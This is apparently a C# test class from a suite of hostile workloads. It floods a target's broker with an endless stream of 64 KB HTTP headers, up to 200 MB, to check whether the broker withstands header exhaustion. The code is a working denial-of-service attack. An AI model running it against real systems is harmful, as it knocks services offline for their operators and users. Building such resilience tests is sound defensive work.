namespace Hostile.Attacks.Protocol;

public sealed class BrokerEndlessHeader : Attack
{
    public override string Title => "sends headers without end to the host's broker";

    public override bool NeedsWorker => true;

    public override async Task<string?> RunAsync(HttpContext context, Target target)
    {
        using var socket = await Broker.ConnectAsync(target);
        await socket.SendAsync("POST /logs HTTP/1.1\r\nHost: host\r\n"u8.ToArray());
        var sent = 0L;
        try
        {
            while (sent < 200 << 20)
                sent += await socket.SendAsync(System.Text.Encoding.ASCII.GetBytes($"X-{sent}: {new string('x', 64 * 1024)}\r\n"), context.RequestAborted);
        }
        catch (System.Net.Sockets.SocketException exception)
        {
            return $"stopped: after {sent} bytes: {exception.Message}";
        }

        return "did: sent 200 MB";
    }
}
